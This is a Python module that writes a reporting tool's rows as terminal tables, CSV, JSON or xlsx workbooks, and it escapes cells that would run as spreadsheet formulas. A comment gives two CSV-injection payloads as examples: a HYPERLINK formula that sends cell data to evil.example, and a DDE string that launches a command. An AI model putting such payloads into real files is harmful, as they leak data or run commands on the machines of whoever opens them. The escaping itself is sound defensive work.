"""Output writers: a report's rows written as a table, CSV, JSON or an xlsx workbook, to a
stream or a file.

`reports` says what a view holds (its columns, typed); this module says how each
format writes them. A format is a `Writer` in `WRITERS`, found by name (`get`) or by
a file's suffix (`for_path`); `write` sends one to standard output or, through a
temporary file renamed at the end, to a file (a failed write leaves no half file).
Every writer writes bytes: the format owns its encoding and line ends.

The xlsx writer is XlsxWriter, chosen by measurement: writing the demo's biggest report
(report_tickets, 2,971 rows x 17 columns, typed cells with number formats) took 1.0 s
and 2.5 MB peak with XlsxWriter (constant_memory) against 3.6 s and 5.7 MB with
openpyxl's write-only mode, for files of the same size. It only writes; the tests read
the files back with openpyxl.
"""

from __future__ import annotations

import csv
import datetime as dt
import enum
import errno
import io
import json
import os
import re
import sys
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, replace
from decimal import Decimal
from pathlib import Path
from typing import Any, BinaryIO
from zoneinfo import ZoneInfo

from rich.console import Console
from rich.table import Table as RichTable
from sqlalchemy import Column, Date, Integer, Numeric

from syncer.config import CsvDialectName
from syncer.dialects.types import UtcDateTime
from syncer.reports import Header, Report
from syncer.status import when

# A terminal's own width; elsewhere (cron mail, a log file, a pipe, a file) 200 columns,
# so that tables keep whole words where rich would assume 80.
PLAIN_WIDTH = 200


class Kind(enum.Enum):
    """What a column holds, as far as writing it goes."""

    TEXT = "text"
    INTEGER = "integer"
    MONEY = "money"  # NUMERIC(…, 2): always with its cents
    DECIMAL = "decimal"  # quantities, rates, hours: without trailing zeros
    DAY = "day"
    MOMENT = "moment"  # an aware time, shown in the API's zone


def kind_of(column: Column[Any]) -> Kind:
    """The kind of a view's column, from its declared type."""
    kind = column.type
    if isinstance(kind, Numeric):
        return Kind.MONEY if kind.scale == 2 else Kind.DECIMAL
    if isinstance(kind, Integer):
        return Kind.INTEGER
    if isinstance(kind, UtcDateTime):
        return Kind.MOMENT
    if isinstance(kind, Date):
        return Kind.DAY
    return Kind.TEXT


@dataclass(frozen=True)
class Extract:
    """What a writer writes: a report's rows (typed, as `reports.fetch` reads them)."""

    report: Report
    rows: Sequence[Mapping[str, Any]]
    tz: ZoneInfo  # the API's zone: every time is written in it
    title: str | None = None  # a table's title (default: the report's name)
    header: Header | None = None  # a workbook's header block

    @property
    def columns(self) -> list[Column[Any]]:
        return list(self.report.view.columns)


def text_of(value: Any, kind: Kind, tz: ZoneInfo, *, for_table: bool = False) -> str:
    """A cell as text: money with its cents, other numbers without trailing zeros,
    dates ISO, times in the API's zone (ISO with offset, or minutes and the zone's
    abbreviation for a table: every time a person reads says its zone)."""
    if value is None:
        return ""
    if isinstance(value, Decimal):
        if kind is Kind.MONEY:
            return f"{value:.2f}"
        text = f"{value.normalize():f}"
        return "0" if text == "-0" else text
    if isinstance(value, dt.datetime):
        local = value.astimezone(tz)
        return local.strftime("%Y-%m-%d %H:%M %Z") if for_table else local.isoformat()
    if isinstance(value, dt.date):
        return value.isoformat()
    return str(value)


# --- cells a spreadsheet would run ---------------------------------------------------------

# What a spreadsheet reads as the start of a formula (OWASP's CSV injection guidance): a
# product named `=HYPERLINK("http://evil.example/?"&A1,"click")` or `@SUM(1+1)*cmd|' /C
# calc'!A0` would run when the file is opened. A text that is a plain number ("-5") is
# left alone: a spreadsheet reads it as that number, which runs nothing.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?")


def runs_as_formula(text: str) -> bool:
    """Whether a spreadsheet would take this text for a formula."""
    return text.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text)


# --- the formats ---------------------------------------------------------------------------


def table_of(extract: Extract) -> RichTable:
    """A table for a terminal; the license goes to the title when all rows share one."""
    title = extract.title or extract.report.name
    columns = extract.columns
    licenses = {row["license"] for row in extract.rows}
    if len(licenses) == 1:
        title += f", license {licenses.pop()}"
        columns = [c for c in columns if c.name != "license"]
    kinds = [kind_of(c) for c in columns]
    table = RichTable(title=title, caption=extract.report.summary)
    for column, kind in zip(columns, kinds, strict=True):
        numeric = kind in (Kind.INTEGER, Kind.MONEY, Kind.DECIMAL) and not column.name.endswith("_id")
        # Spaces let a narrow terminal wrap the header instead of cutting it.
        table.add_column(column.name.replace("_", " "), justify="right" if numeric else "left")
    for row in extract.rows:
        table.add_row(*(text_of(row[c.name], kind, extract.tz, for_table=True)
                        for c, kind in zip(columns, kinds, strict=True)))
    return table


def console_on(out: BinaryIO) -> tuple[Console, io.TextIOWrapper]:
    """A rich console writing UTF-8 to `out`: the terminal's width and colours on a
    terminal, plain text 200 columns wide elsewhere. Detach the wrapper when done."""
    text = io.TextIOWrapper(out, encoding="utf-8", write_through=True)
    # markup=False: a product named `Koffie [/]` is text (see syncer.views).
    return Console(file=text, width=None if out.isatty() else PLAIN_WIDTH, markup=False), text


def write_table(extract: Extract, out: BinaryIO) -> None:
    """The table a person reads; "no rows" under it when there are none."""
    console, text = console_on(out)
    try:
        console.print(table_of(extract))
        if not extract.rows:
            console.print("no rows")
    finally:
        text.flush()
        text.detach()  # `out` stays open: it may be standard output


@dataclass(frozen=True)
class CsvDialect:
    """How a CSV file spells its separators, numbers, days and times."""

    name: CsvDialectName
    delimiter: str
    decimal: str  # the decimal separator of money and quantities
    line_end: str
    bom: bool  # a UTF-8 byte-order mark first: how Excel knows the file is UTF-8
    day: str  # strftime of a day
    moment: str | None  # strftime of a local time (the zone named in the header); None: ISO with offset
    # For a spreadsheet: a text cell that would run as a formula gets a leading `'`, which
    # Excel and LibreOffice read as "this is text". A CSV for scripts keeps every text as is.
    quote_formulas: bool = False


CSV_DIALECTS: dict[CsvDialectName, CsvDialect] = {d.name: d for d in (
    # For scripts: RFC 4180 quoting, `.` decimals, ISO days and times with their offset; lines
    # end in LF, as Unix tools expect.
    CsvDialect("rfc4180", ",", ".", "\n", bom=False, day="%Y-%m-%d", moment=None),
    # For Excel and LibreOffice in a Belgian locale (nl-BE, fr-BE), opened by double-click:
    # `;` (the list separator there), decimal comma, UTF-8 with a BOM, CRLF, day-first.
    CsvDialect("excel-be", ";", ",", "\r\n", bom=True, day="%d/%m/%Y", moment="%d/%m/%Y %H:%M:%S",
               quote_formulas=True),
)}


def heading(column: Column[Any], kind: Kind, tz: ZoneInfo,
            named: Callable[[str], str] | None = None) -> str:
    """A column's heading in a spreadsheet, which has no zones: a time's names its zone.
    `named`: the heading of a column's name (a language's), else the name itself."""
    name = named(column.name) if named is not None else column.name
    return f"{name} ({tz.key})" if kind is Kind.MOMENT else name


def csv_cell(value: Any, kind: Kind, extract: Extract, dialect: CsvDialect) -> str:
    """A cell of a CSV file in `dialect`."""
    if kind is Kind.TEXT and dialect.quote_formulas and value is not None:
        text = text_of(value, kind, extract.tz)
        return f"'{text}" if runs_as_formula(text) else text
    if value is None or dialect.moment is None:
        return text_of(value, kind, extract.tz)
    if kind is Kind.MOMENT:
        return str(value.astimezone(extract.tz).strftime(dialect.moment))
    if kind is Kind.DAY:
        return str(value.strftime(dialect.day))
    if kind in (Kind.MONEY, Kind.DECIMAL):
        return text_of(value, kind, extract.tz).replace(".", dialect.decimal)
    return text_of(value, kind, extract.tz)


def write_csv(extract: Extract, out: BinaryIO, dialect: CsvDialect = CSV_DIALECTS["rfc4180"]) -> None:
    """One header line, then a line per row, in `dialect`."""
    kinds = [kind_of(c) for c in extract.columns]
    text = io.StringIO()
    writer = csv.writer(text, delimiter=dialect.delimiter, lineterminator=dialect.line_end)
    writer.writerow([c.name if dialect.moment is None else heading(c, kind, extract.tz)
                     for c, kind in zip(extract.columns, kinds, strict=True)])
    for row in extract.rows:
        writer.writerow([csv_cell(row[c.name], kind, extract, dialect)
                         for c, kind in zip(extract.columns, kinds, strict=True)])
    out.write(text.getvalue().encode("utf-8-sig" if dialect.bom else "utf-8"))


def write_json(extract: Extract, out: BinaryIO) -> None:
    """A JSON list of objects; Decimals as strings, dates and times ISO, integers as numbers."""
    kinds = {c.name: kind_of(c) for c in extract.columns}

    def value(name: str, v: Any) -> Any:
        if v is None or isinstance(v, int | str):
            return v
        return text_of(v, kinds[name], extract.tz)

    rows = [{k: value(k, v) for k, v in row.items()} for row in extract.rows]
    out.write(json.dumps(rows, indent=2, ensure_ascii=False).encode("utf-8") + b"\n")


# Number formats of the workbook's cells, per kind (the spreadsheet shows them in its locale).
XLSX_FORMATS = {Kind.MONEY: "#,##0.00", Kind.DECIMAL: "#,##0.00##", Kind.INTEGER: "0",
                Kind.DAY: "yyyy-mm-dd", Kind.MOMENT: "yyyy-mm-dd hh:mm:ss"}
XLSX_MAX_WIDTH = 50


def header_lines(extract: Extract) -> list[tuple[str, str]]:
    """The header block of a workbook, in words: what a person needs before the numbers."""
    report, header, tz = extract.report, extract.header, extract.tz
    lines = [(report.name, report.summary)]
    if header is None:
        return lines
    if report.day_column is None:
        period = "as of when it was made"
    elif header.since is None and header.until is None:
        period = "every business day in the database"
    else:
        period = (f"business days {header.since or 'from the first'} to "
                  f"{header.until or 'the last'}, inclusive")
    fresh = "; ".join(f"{name}: " + (f"orders last synced {when(moment, tz)}" if moment
                                      else "orders never synced")
                      for name, moment in header.orders_synced_at.items())
    return [*lines, ("license(s)", ", ".join(header.licenses) or "none"), ("period", period),
            ("made at", f"{when(header.made_at, tz)} ({tz.key})"), ("data as fresh as", fresh)]


class XlsxBook:
    """A workbook being written, sheet by sheet (`xlsx_book`): its number formats are made
    once and shared by its sheets."""

    def __init__(self, workbook: Any) -> None:
        self.workbook = workbook
        self.bold = workbook.add_format({"bold": True})
        self.formats = {kind: workbook.add_format({"num_format": spec})
                        for kind, spec in XLSX_FORMATS.items()}
        self.bold_formats = {kind: workbook.add_format({"num_format": spec, "bold": True})
                             for kind, spec in XLSX_FORMATS.items()}
        self.quoted = workbook.add_format({"quote_prefix": True})

    def _text(self, sheet: Any, row: int, col: int, text: str) -> None:
        sheet.write_string(row, col, text, self.quoted if runs_as_formula(text) else None)

    def sheet(self, extract: Extract, name: str | None = None,
              lines: Sequence[tuple[str, str]] | None = None, *, emphasise: int = 0,
              after: Sequence[tuple[str, str]] = (),
              headings: Callable[[str], str] | None = None) -> None:
        """A sheet: a block of (label, text) lines (default: the extract's header block),
        then the rows as typed cells (money and quantities numbers with two decimals, days
        dates, times local datetimes with the zone in their heading, text text) under a
        frozen heading row with a filter, then the lines `after`, below a blank row. The
        last `emphasise` rows are bold (totals); `headings` names the columns (default:
        their names). Printed landscape, one page wide, the
        heading row on every page. A text that would run as a formula is a text cell with
        Excel's quote prefix: shown as is, and still text when a person edits it."""
        columns = extract.columns
        kinds = [kind_of(c) for c in columns]
        sheet = self.workbook.add_worksheet((name or extract.report.name.removeprefix("report_"))[:31])
        lines = header_lines(extract) if lines is None else lines
        for number, (label, text) in enumerate(lines):
            sheet.write_string(number, 0, label, self.bold)
            self._text(sheet, number, 1, text)
        top = len(lines) + 1  # the heading row, after a blank one
        titles = [heading(c, kind, extract.tz, headings)
                  for c, kind in zip(columns, kinds, strict=True)]
        widths = [len(h) for h in titles]
        for col, text in enumerate(titles):
            sheet.write_string(top, col, text, self.bold)
        first_bold = len(extract.rows) - emphasise
        for index, row in enumerate(extract.rows):
            number = top + 1 + index
            formats = self.bold_formats if index >= first_bold else self.formats
            for col, (column, kind) in enumerate(zip(columns, kinds, strict=True)):
                value = row[column.name]
                if value is None:
                    continue
                widths[col] = max(widths[col], len(text_of(value, kind, extract.tz, for_table=True)))
                if kind in (Kind.MONEY, Kind.DECIMAL, Kind.INTEGER):
                    # A double holds every amount of NUMERIC(15, 2) to the cent.
                    sheet.write_number(number, col, float(value), formats[kind])
                elif kind is Kind.MOMENT:
                    local = value.astimezone(extract.tz).replace(tzinfo=None)
                    sheet.write_datetime(number, col, local, formats[kind])
                elif kind is Kind.DAY:
                    sheet.write_datetime(number, col, dt.datetime.combine(value, dt.time()),
                                         formats[kind])
                elif index >= first_bold:
                    sheet.write_string(number, col, str(value), self.bold)
                else:
                    self._text(sheet, number, col, str(value))
        below = top + len(extract.rows) + 2
        for number, (label, text) in enumerate(after, start=below):
            sheet.write_string(number, 0, label, self.bold)
            self._text(sheet, number, 1, text)
        if widths:  # the first column holds the labels of the blocks too
            widths[0] = max([widths[0], *(len(label) for label, _ in (*lines, *after))])
        for col, width in enumerate(widths):
            sheet.set_column(col, col, min(width + 2, XLSX_MAX_WIDTH))
        sheet.freeze_panes(top + 1, 0)
        sheet.set_landscape()
        sheet.fit_to_pages(1, 0)
        sheet.repeat_rows(top)
        sheet.autofilter(top, 0, top + len(extract.rows), len(columns) - 1)


@contextmanager
def xlsx_book(out: BinaryIO) -> Iterator[XlsxBook]:
    """A workbook written to `out` when the block ends."""
    import xlsxwriter  # noqa: PLC0415  (50 ms: only for the command that writes one)

    workbook = xlsxwriter.Workbook(out, {"constant_memory": True})
    try:
        yield XlsxBook(workbook)
    finally:
        workbook.close()


def write_xlsx(extract: Extract, out: BinaryIO) -> None:
    """A workbook of one sheet: the header block, then the rows (`XlsxBook.sheet`)."""
    with xlsx_book(out) as book:
        book.sheet(extract)


@dataclass(frozen=True)
class Writer:
    """One output format: its name, the suffix of its files, how it writes."""

    name: str
    suffix: str
    write: Callable[[Extract, BinaryIO], None]
    summary: str
    needs_file: bool = False  # not text: never to a terminal


WRITERS: dict[str, Writer] = {w.name: w for w in (
    Writer("table", ".txt", write_table, "a table for people"),
    Writer("csv", ".csv", write_csv, "CSV for scripts"),
    Writer("json", ".json", write_json, "JSON for scripts"),
    Writer("xlsx", ".xlsx", write_xlsx, "a workbook with typed cells", needs_file=True),
)}


def get(name: str, *, csv: CsvDialectName = "rfc4180") -> Writer:
    """The writer of format `name` (CSV in dialect `csv`); KeyError if none."""
    if name == "csv" and csv != "rfc4180":
        dialect = CSV_DIALECTS[csv]
        return replace(WRITERS[name], write=lambda extract, out: write_csv(extract, out, dialect),
                       summary=f"CSV, {dialect.name}")
    return WRITERS[name]


def for_path(path: Path) -> Writer | None:
    """The writer whose files end like `path` (`.csv`, `.json`), if one does."""
    return next((w for w in WRITERS.values() if path.suffix.lower() == w.suffix), None)


def write(writer: Writer, extract: Extract, path: Path | None = None) -> None:
    """Write `extract` to `path` (replacing it, see `write_file`), or to standard output
    without one."""
    if path is None:
        sys.stdout.flush()
        writer.write(extract, sys.stdout.buffer)
        sys.stdout.buffer.flush()
        return
    write_file(path, lambda out: writer.write(extract, out))


def write_file(path: Path, fill: Callable[[BinaryIO], object], *, replace: bool = True) -> None:
    """A file every command writes for a person (`report --out`, `doctor --out`).

    It is written beside itself (a new file, never opened through a link) and renamed
    when complete, so a reader never sees half of it and a failed write (a missing
    folder, a full disk) leaves the old file, or none, and raises the OSError. A link at
    `path` is replaced, never written through. With `replace=False` an existing `path`
    (a link too) is kept and FileExistsError raised, also when it appears meanwhile."""
    if not replace and (path.exists() or path.is_symlink()):
        raise FileExistsError(errno.EEXIST, "it exists", str(path))
    partial = path.with_name(f".{path.name}.{os.getpid()}.partial")
    try:
        with partial.open("xb") as out:
            fill(out)
        if replace:
            partial.replace(path)
        else:
            os.link(partial, path, follow_symlinks=False)  # fails, atomically, if path exists
    finally:
        partial.unlink(missing_ok=True)
